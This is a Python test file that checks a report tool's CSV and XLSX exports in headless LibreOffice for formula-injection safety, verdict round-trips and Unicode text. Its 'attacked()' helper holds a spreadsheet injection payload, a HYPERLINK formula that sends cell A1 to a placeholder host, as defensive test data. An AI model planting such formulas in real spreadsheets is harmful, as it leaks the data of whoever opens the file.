"""The CSV in a real spreadsheet program: LibreOffice opens it, keeps it, and gives the verdicts back."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from dataclasses import replace

import openpyxl
import pytest

from checker import plugins, tables
from checker.gate import VERDICTS
from tests.sample import report


@pytest.fixture(scope="module")
def convert(tmp_path_factory):
    """Convert a file with LibreOffice; the test is skipped where there is none, but never in CI."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        missing = "no LibreOffice on this machine (Debian: libreoffice-calc-nogui)"
        if os.environ.get("CI") == "true":
            pytest.fail(missing)
        pytest.skip(missing)
    profile = tmp_path_factory.mktemp("office").as_uri()

    def convert(path, target, folder):
        command = [program, f"-env:UserInstallation={profile}", "--headless", "--convert-to", target]
        # The dialog for CSV proposes this when it meets the byte-order mark; without a window nobody asks it.
        command += ["--infilter=CSV:44,34,76,1"] if path.suffix == ".csv" else []
        command += ["--outdir", str(folder), str(path)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
        made = folder / f"{path.stem}.{target.partition(':')[0]}"
        assert made.is_file(), done.stdout + done.stderr
        return made

    return convert


UTF8_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1"
"""Comma, quotation mark, UTF-8, from the first line: what "keep current format" writes."""


def attacked():
    """A report whose texts a spreadsheet would take for formulas."""
    made = report()
    formula = '=HYPERLINK("http://example.org/?x="&A1,"open")'
    found = replace(made.findings[1], message=formula, suggestion="+1-1", source=None)
    return replace(made, findings=(found, *made.findings[2:]))


def rows(data):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_spreadsheet_shows_the_text_and_calculates_nothing(convert, tmp_path):
    path = tmp_path / "article.findings.csv"
    path.write_bytes(tables.to_csv(tables.findings(attacked())))
    (tmp_path / "out").mkdir()
    sheet = openpyxl.load_workbook(convert(path, "xlsx", tmp_path / "out")).active
    grid = [[cell.value for cell in row] for row in sheet]
    assert tuple(grid[0]) == tables.FINDINGS
    assert len(grid) == 4
    first = dict(zip(grid[0], sheet[2], strict=True))
    assert first["message"].value == '\'=HYPERLINK("http://example.org/?x="&A1,"open")'
    assert not [cell for row in sheet for cell in row if cell.data_type == "f"]
    assert (first["line"].value, first["confidence"].value) == (3, 0.93)
    assert grid[3][tables.FINDINGS.index("source_excerpt")] == "Никто не ждал."
    assert [row[1] for row in grid[1:]] == list(attacked().fingerprints)


def test_verdicts_given_in_a_spreadsheet_come_back(convert, tmp_path):
    made = report()
    frame = tables.findings(made)
    frame.loc[1, ["verdict", "comment"]] = ["Reject ", "ну, да; «так»"]
    path = tmp_path / "article.findings.csv"
    path.write_bytes(tables.to_csv(frame))
    (tmp_path / "out").mkdir()
    saved = convert(convert(path, "ods", tmp_path), UTF8_CSV, tmp_path / "out")
    known = tables.read_baseline(saved, VERDICTS)
    assert known["article.en"][made.fingerprints[1]][:2] == ("reject", "ну, да; «так»")
    assert set(known["article.en"]) == set(made.fingerprints)
    before, after = rows(tables.to_csv(frame)), rows(saved.read_bytes())
    assert [row["excerpt"] for row in after] == [row["excerpt"] for row in before]


def test_no_fingerprint_can_be_taken_for_a_number():
    made = report()
    shifted = [replace(made, findings=(replace(made.findings[1], occurrence=number),)) for number in range(1, 400)]
    names = {name for one in shifted for name in one.fingerprints}
    assert len(names) == 399
    assert all(name[0] == "f" and len(name) == 16 for name in names)


def test_segments_and_summary_open_too(convert, tmp_path):
    made = report()
    (tmp_path / "out").mkdir()
    summary = tables.summary(
        [tables.summary_row(made, False, "2 major findings"), tables.error_row("b.en", "-x: is empty")]
    )
    for name, frame in (("segments", tables.segments(made)), ("summary", summary)):
        path = tmp_path / f"{name}.csv"
        path.write_bytes(tables.to_csv(frame))
        sheet = openpyxl.load_workbook(convert(path, "xlsx", tmp_path / "out")).active
        grid = [[cell.value for cell in row] for row in sheet]
        assert grid[0] == list(frame.columns)
        assert len(grid) == len(frame) + 1
        if name == "segments":
            assert grid[2][3] == "Они ушли поспешно и второпях."
            assert (grid[2][11], grid[3][8]) == (77, None), "what does not apply is empty, never 0"


def test_the_workbook_opens_as_it_was_made(convert, tmp_path):
    path = tmp_path / "run.xlsx"
    path.write_bytes(plugins.load("reporters", "xlsx", None).render([attacked()]))
    (tmp_path / "out").mkdir()
    again = rows(convert(path, UTF8_CSV, tmp_path / "out").read_bytes())
    assert again[0]["message"].startswith("=HYPERLINK(")
    assert [row["code"] for row in again] == ["REP002", "PUN002", "OMI001"]
